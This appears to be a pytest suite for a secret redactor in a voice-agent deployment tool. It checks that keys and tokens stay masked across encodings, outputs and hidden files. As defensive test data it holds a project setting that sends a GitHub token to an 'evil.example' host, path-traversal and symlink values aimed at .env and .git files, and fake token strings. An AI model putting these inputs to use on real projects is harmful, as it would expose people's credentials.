"""A secret is known by its value: no way of writing it brings it into an agent, and no output or file shows it."""

from __future__ import annotations

import base64
import html
import json
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.apply.manifests import AGENT, LINE, TOOL
from tests.support.bench import PROJECT, Bench, bench
from tests.support.folder import Folder, errors
from voiceops.model.redactor import Redactor, forms, looks_secret, secrets_of

KEY = "0f3a9c1e-7d2b-4c55-9a01-5ee5c0ffee42"
WEBHOOK = 'wh"sec&ret/with+odd=letters 7'
TOKEN = "ghp_4RtzL0qPw9XyZaBcDeFgHiJkLmNoPq12"
SECRETS = {"VAPI_API_KEY": KEY, "VAPI_WEBHOOK_SECRET": WEBHOOK, "GITHUB_TOKEN": TOKEN}


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path)


def agent(message: str, extra: str = "") -> str:
    return f"kind: Agent\nname: a\n{extra}spec:\n  firstMessage: {json.dumps(message)}\n"


def said(folder: Folder, **environ: str) -> str:
    return "\n".join(map(str, folder.problems(environ=SECRETS | environ)))


NAMES = {
    "the account's key": "${env:VAPI_API_KEY}",
    "within a text": "Hello ${env:VAPI_API_KEY}!",
    "with a default": "${env:VAPI_API_KEY:-none}",
    "the webhook's": "${env:VAPI_WEBHOOK_SECRET}",
    "a token by its look": "${env:GITHUB_TOKEN}",
    "a name in camel case": "${env:githubToken}",
    "a password": "${env:DB_PASSWORD:-}",
    "a private key": "${env:DEPLOY_PRIVATE_KEY:-}",
    "a credential": "${env:GCP_CREDENTIALS:-}",
    "not set here": "${env:STRIPE_SECRET_KEY:-x}",
}


@pytest.mark.parametrize("text", NAMES.values(), ids=NAMES.keys())
def test_a_variable_that_holds_a_key_is_not_written_out(folder: Folder, text: str) -> None:
    folder.write("agents/a.yaml", agent(text))
    assert errors(folder, environ=SECRETS) == [("secret-shown", 4)]
    assert "${secret:" in said(folder)
    assert not any(value in said(folder) for value in SECRETS.values())


@pytest.mark.parametrize(
    "name",
    ["VAPI_PUBLIC_KEY", "KEYPAD", "TOKENIZER", "MONKEY", "SSH_AUTH_SOCK", "AWS_ACCESS_KEY_ID", "PASSENGERS", "PWD",
     "TWILIO_ACCOUNT_SID", "SECRETARY_NAME", "KEY_FILE", "TOKEN_URL", "PRIVATE_HOST", "HOME"],
)  # fmt: skip
def test_a_name_that_only_sounds_like_one_is_none(name: str) -> None:
    assert not looks_secret(name)


def _files(folder: Folder) -> dict[str, Callable[[], None]]:
    def manifest(text: str) -> Callable[[], None]:
        return lambda: folder.write("agents/a.yaml", text)

    def with_file(name: str, content: str, text: str) -> Callable[[], None]:
        def write() -> None:
            folder.write(name, content)
            folder.write("agents/a.yaml", text)

        return write

    def with_project(more: str, text: str) -> Callable[[], None]:
        def write() -> None:
            folder.project(more)
            folder.write("agents/a.yaml", text)

        return write

    half = len(KEY) // 2
    encoded = base64.b64encode(f"xy{KEY}".encode()).decode()
    escaped = "".join(f"\\x{ord(letter):02x}" for letter in KEY)
    return {
        "another variable of the value": manifest(agent("${env:OTHER}")),
        "another variable around it": manifest(agent("${env:AROUND}")),
        "two halves": manifest(agent("x${env:FIRST}${env:SECOND}")),
        "half a variable, half a text": manifest(agent(f"${{env:FIRST}}{KEY[half:]}")),
        "the value itself": manifest(agent(KEY)),
        "escaped in YAML": manifest(f'kind: Agent\nname: a\nspec:\n  firstMessage: "{escaped}"\n'),
        "in base64": manifest(agent(encoded)),
        "in hexadecimal digits": manifest(agent(KEY.encode().hex())),
        "in percent signs": manifest(agent("".join(f"%{ord(letter):02X}" for letter in KEY))),
        "in a file": with_file("agents/p.md", f"The key is {KEY}.", agent("${file:p.md}")),
        "in a template": with_file("agents/p.md", "The key is ${env:FIRST}${env:SECOND}.", agent("${template:p.md}")),
        "in a template's variable": with_file("agents/p.md", "${env:OTHER}", agent("${template:p.md}")),
        "in data of forEach": with_file(
            "agents/t.yaml",
            f"- {{key: one, value: {KEY}}}\n",
            agent("${each:value.value}", "forEach: ${file:t.yaml}\n"),
        ),
        "in a variable": with_project(f"variables: {{x: {KEY}}}\n", agent("${var:x}")),
        "in a variable out of the environment": with_project("variables: {x: '${env:OTHER}'}\n", agent("${var:x}")),
        "in a patch": with_file(
            "environments/dev.yaml",
            f"patches: [{{target: Agent/a, merge: {{firstMessage: {KEY}}}}}]\n",
            agent("Hello"),
        ),
        "in defaults": with_project(f"defaults: {{Agent: {{voicemailMessage: {KEY}}}}}\n", agent("Hello")),
        "as a key of a map": manifest(agent("Hello") + f"  metadata: {{'{KEY}': 1}}\n"),
        "in a label": manifest(agent("Hello", f"labels: {{team: '{KEY}'}}\n")),
        "in a file to upload": with_file(
            "agents/menu.md", f"Soup. {KEY}", "kind: File\nname: menu\nspec: {path: menu.md}\n"
        ),
        "by a look-alike's value": manifest(agent(f"See {TOKEN}.")),
        "in the password of an address": manifest(agent("hunter-22-hunter")),
    }


@pytest.mark.parametrize("way", list(_files(Folder.__new__(Folder)).keys()))
def test_no_way_brings_a_value_into_a_manifest(folder: Folder, way: str) -> None:
    _files(folder)[way]()
    half = len(KEY) // 2
    environ = {"OTHER": KEY, "AROUND": f"<{KEY}>", "FIRST": KEY[:half], "SECOND": KEY[half:]}
    environ["DATABASE"] = "postgresql://me:hunter-22-hunter@db.example/x"
    found = errors(folder, environ=SECRETS | environ)
    assert [code for code, _ in found] == ["secret-shown"], said(folder, **environ)
    assert found[0][1] > 0
    assert KEY not in said(folder, **environ)


def test_a_secret_that_is_asked_for_by_name_is_known_by_value(folder: Folder) -> None:
    folder.write(
        "agents/a.yaml",
        agent("Call plain-looking-words") + "---\nkind: Credential\nname: c\n"
        "spec: {provider: openai, apiKey: '${secret:PLAIN}'}\n",
    )
    assert "secret-shown" in said(folder, PLAIN="plain-looking-words")
    assert said(folder, PLAIN="short") == ""


def test_what_belongs_there_is_taken(folder: Folder) -> None:
    folder.project(
        "providers: {twilio: {accountSid: '${env:TWILIO_ACCOUNT_SID}', apiKey: '${env:TWILIO_API_KEY:-}'}}\n"
    )
    folder.write("agents/a.yaml", agent("Hello ${env:GREETING}, ${env:VAPI_PUBLIC_KEY}"))
    environ = {
        "GREETING": "you",
        "TWILIO_ACCOUNT_SID": "AC1",
        "VAPI_PUBLIC_KEY": "11111111-2222-3333-4444-555555555555",
    }
    assert said(folder, **environ) == ""


@pytest.mark.parametrize(
    "setting",
    [
        "runtime: {url: 'https://${env:GITHUB_TOKEN}.evil.example'}",
        "state: 's3://b/${env:GITHUB_TOKEN}'",
        "naming: {prefix: '${env:GITHUB_TOKEN}'}",
        "providers: {vapi: {baseUrl: 'https://x/${env:VAPI_API_KEY}'}}",
        "providers: {vapi: {apiKey: '${env:GITHUB_TOKEN}'}}",
        "providers: {twilio: {accountSid: '${env:NPM_TOKEN:-}'}}",
    ],
)
def test_the_projects_settings_write_no_key_out(folder: Folder, setting: str) -> None:
    text = folder.root / "voiceops.yaml"
    text.write_text("version: 1\nproject: shop\nenvironments: [dev, prod]\n")
    target = "environments/dev.yaml"
    folder.write(target, setting + "\n")
    assert "secret-shown" in said(folder), setting


# Dot files and the tool's own folders.


@pytest.fixture
def hidden(folder: Folder) -> Folder:
    folder.write(".env", "STRIPE_KEY=sk-live-123\n")
    folder.write(".git/config", "[core]\n")
    folder.write(".voiceops/state/dev/state.json", "{}\n")
    folder.write(".github/x.md", "x\n")
    folder.write("agents/.secret.md", "x\n")
    folder.write("agents/.hidden/x.yaml", "[a, b]\n")
    return folder


PLACES = (
    "../.env",
    "../.git/config",
    "../.voiceops/state/dev/state.json",
    "../.github/x.md",
    ".secret.md",
    "./x/../../.env",
    "..//.env",
    "link.md",
    "linked/config",
    "hard.md",
    "../agents/../.env",
)


def _link(folder: Folder) -> None:
    (folder.root / "agents/link.md").symlink_to("../.env")
    (folder.root / "agents/linked").symlink_to("../.git")
    os.link(folder.root / ".env", folder.root / "agents/hard.md")


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("form", ["file", "template", "forEach", "File"])
def test_hidden_files_can_not_be_named(hidden: Folder, place: str, form: str) -> None:
    _link(hidden)
    match form:
        case "file" | "template":
            hidden.write("agents/a.yaml", agent(f"${{{form}:{place}}}"))
        case "forEach":
            hidden.write("agents/a.yaml", agent("Hello", f"forEach: '${{file:{place}}}'\n"))
        case "File":
            hidden.write("agents/a.yaml", f"kind: File\nname: f\nspec: {{path: '{place}'}}\n")
    found = hidden.problems()
    assert [d.code for d in found if d.code == "file"], list(map(str, found))
    assert "sk-live" not in "\n".join(map(str, found))


@pytest.mark.parametrize(
    "setting",
    ["manifests: [.voiceops]", "manifests: [.env]", "manifests: ['.git/*']", "manifests: [linked]",
     "policies: [.github]",
     "manifests: ['agents/.hidden/*.yaml']"],
)  # fmt: skip
def test_hidden_folders_hold_no_manifests(hidden: Folder, setting: str) -> None:
    (hidden.root / "linked").symlink_to(".git")
    hidden.project(setting + "\n")
    found = "\n".join(map(str, hidden.problems()))
    assert "sk-live" not in found
    assert "[core]" not in found


def test_a_handler_in_a_hidden_folder_is_none(hidden: Folder) -> None:
    hidden.write(".voiceops/handlers/orders.py", "def lookup(): ...\n")
    hidden.write(
        "voiceops.yaml",
        PROJECT.replace("live", "dev") + "runtime: {url: 'https://x.example', handlers: .voiceops/handlers}\n",
    )
    hidden.write("agents/a.yaml", TOOL + "handler: orders:lookup\n")
    assert "dot" in "\n".join(map(str, hidden.problems()))


def test_files_that_are_linked_hard_for_other_reasons_are_read(hidden: Folder, tmp_path: Path) -> None:
    hidden.write("agents/p.md", "Be kind.")
    os.link(hidden.root / "agents/p.md", hidden.root / "agents/q.md")
    hidden.write("agents/a.yaml", agent("${file:q.md}"))
    assert hidden.problems() == ()


# What is printed and kept.


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Bench]:
    with bench(tmp_path / "shop") as made:
        for name, text in (("agent", AGENT), ("tool", TOOL), ("line", LINE)):
            made.write(f"agents/{name}.yaml", text)
        made.apply()
        yield made


ODD = 'odd"value/with\\signs&<more>+é-7Q'
WAYS: dict[str, Callable[[str], str]] = {
    "plain": lambda value: value,
    "base64": lambda value: base64.b64encode(value.encode()).decode(),
    "base64, one on": lambda value: base64.b64encode(b"a" + value.encode() + b"bc").decode(),
    "base64, two on": lambda value: base64.b64encode(b"ab" + value.encode() + b"c").decode(),
    "base64 for addresses": lambda value: base64.urlsafe_b64encode(b"u:" + value.encode()).decode().rstrip("="),
    "percent": lambda value: quote(value, safe=""),
    "percent, all": lambda value: "".join(f"%{byte:02x}" for byte in value.encode()),
    "percent, some": lambda value: "".join(
        f"%{ord(c):02X}" if i % 3 == 0 and c.isascii() else c for i, c in enumerate(value)
    ),
    "form": lambda value: quote_plus(value),
    "JSON": lambda value: json.dumps(value),
    "unicode": lambda value: "".join(f"\\u{ord(letter):04x}" for letter in value),
    "hex": lambda value: value.encode().hex(),
    "HEX": lambda value: value.encode().hex().upper(),
    "HTML": lambda value: html.escape(value),
    "entities": lambda value: "".join(f"&#{ord(letter)};" for letter in value),
    "hex entities": lambda value: "".join(f"&#x{ord(letter):X};" for letter in value),
    "colours": lambda value: f"{value[:9]}\x1b[31m{value[9:20]}\x1b[0m{value[20:]}",
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("value", [KEY, TOKEN, ODD, WEBHOOK])
def test_every_way_of_writing_it_is_masked(way: str, value: str) -> None:
    if way in ("percent, all", "entities", "unicode") and not value.isascii():
        value = value.replace("é", "e")
    redactor = Redactor()
    redactor.add(value)
    for before, after in (("", ""), ("x ", " y"), ("a=", "&b=1"), ('{"k": "', '"}')):
        written = WAYS[way](value)
        masked = redactor.text(f"{before}{written}{after}")
        assert "(sensitive)" in masked
        assert masked.startswith(before)
        assert masked.endswith(after)
        assert redactor.found(written) is not None
        # What stays of it, next to the mask, is less than three letters' worth.
        assert len(masked) - len(before) - len(after) <= len("(sensitive)") + 8


@given(st.text(min_size=8, max_size=40), st.text(max_size=60), st.text(max_size=60))
def test_the_value_itself_never_stays(value: str, before: str, after: str) -> None:
    redactor = Redactor()
    redactor.add(value)
    masked = redactor.text(before + value + after)
    if value not in "(sensitive)":
        assert value not in masked or value in before + after or value in f"{before}(sensitive){after}"
    kept = redactor.data({"a": [before + value], before + value: 1})
    assert json.loads(json.dumps(kept)) == kept


@given(st.text(max_size=200))
def test_without_secrets_nothing_changes(text: str) -> None:
    assert Redactor().text(text) is text
    assert Redactor({"VAPI_API_KEY": "sandbox"}).text(text) is text


def test_every_output_of_every_command_is_masked(desk: Bench, tmp_path: Path) -> None:
    """Somebody pasted the key into the dashboard: everything that shows live values would show it."""
    id_ = desk.id_of("Agent/desk")
    desk.control.edit(id_, {"firstMessage": f"Call {KEY}", "name": f"x {quote(WEBHOOK)}"})
    given = {"VAPI_WEBHOOK_SECRET": WEBHOOK, "GITHUB_TOKEN": TOKEN, "STRIPE_KEY": KEY}
    shown = []
    out = tmp_path / "plan.json"
    for command in (
        ("plan", "--out", str(out)),
        ("plan", "--format", "json"),
        ("plan", "--format", "markdown"),
        ("plan", "--format", "html"),
        ("drift",),
        ("drift", "--format", "json"),
        ("status",),
        ("doctor",),
        ("validate",),
        ("apply", "--auto-approve", "-m", f"because {TOKEN}", "--format", "json"),
        ("history",),
        ("history", "--format", "json"),
        ("show", "2"),
        ("show", "2", "--format", "json"),
        ("diff", "1", "2"),
        ("rollback", "--plan-only"),
        ("state", "list"),
        ("state", "show", "Agent/desk"),
        ("show", TOKEN),
        ("plan", "--target", f"Agent/{TOKEN}"),
        ("-e", TOKEN, "plan"),
        (TOKEN,),
    ):
        ran = desk.run(*command, code=None, **given)
        shown.append(ran.out + ran.err)
    files = [path.read_text(errors="replace") for path in (desk.folder / ".voiceops").rglob("*") if path.is_file()]
    for text in (*shown, out.read_text(), *files):
        for value in (KEY, TOKEN, WEBHOOK):
            assert Redactor(dict.fromkeys(["VAPI_API_KEY"], value)).found(text) is None, text[:3000]
    assert sum("(sensitive)" in text for text in shown) > 8
    assert any("because (sensitive)" in text for text in files)


def test_what_is_masked_is_told_and_applies_as_ever(desk: Bench) -> None:
    desk.control.edit(desk.id_of("Agent/desk"), {"firstMessage": f"Call {KEY}"})
    desk.run("apply", "--auto-approve", STRIPE_KEY=KEY)
    assert desk.live("Agent/desk")["firstMessage"] == "Hello"
    assert desk.changes() == {}


def test_a_plan_kept_with_a_mask_is_still_applied(desk: Bench, tmp_path: Path) -> None:
    desk.control.edit(desk.id_of("Agent/desk"), {"firstMessage": f"Call {KEY}"})
    out = str(tmp_path / "plan.json")
    desk.run("plan", "--out", out, STRIPE_KEY=KEY)
    ran = desk.run("apply", out, code=None, STRIPE_KEY=KEY)
    assert ran.code in (0, 5), ran.err  # applied, or refused in a sentence; never half


def test_secrets_of_the_env_file_are_masked_too(desk: Bench) -> None:
    desk.write(".env", f"STRIPE_KEY={KEY}\n")
    desk.control.edit(desk.id_of("Agent/desk"), {"firstMessage": f"Call {KEY}"})
    assert KEY not in desk.run("plan").out


def test_values_that_anybody_writes_are_no_secrets() -> None:
    environ = {
        "API_KEY": "true",
        "SECRET_MODE": "disabled",
        "TOKEN": "12345",
        "PASSWORD_STORE": "/usr/share/password-store",
    }
    environ |= {"DATABASE": "postgresql://postgres:postgres@127.0.0.1/x", "PWD": "/home/me/project-7"}
    assert secrets_of(environ) == {}


def test_masking_costs_little(record_property: Callable[[str, object], None]) -> None:
    """A plan of a thousand objects, with ten secrets that are not in it."""
    text = "\n".join(
        f'  ~ model.messages[0].content: "line {n} %20 of a prompt\\nand more" → "another {n}" 0f3a9c1e-7d2b-{n:04}'
        for n in range(10_000)
    )
    redactor = Redactor({f"S{n}_TOKEN": f"some-secret-value-{n}-{n * 7919}" for n in range(10)})
    redactor.text("x" * 100)
    began = time.process_time()
    assert redactor.text(text) == text
    spent = time.process_time() - began
    record_property("figure", f"masking: {len(text) / 1e6:.1f} MB against 10 secrets in {spent * 1000:.0f} ms")
    assert spent < 0.5


@pytest.mark.parametrize("value", [KEY, ODD])
def test_forms_are_all_of_the_value(value: str) -> None:
    assert next(iter(forms(value))) == value
    assert all(len(form) >= 8 for form in forms(value))
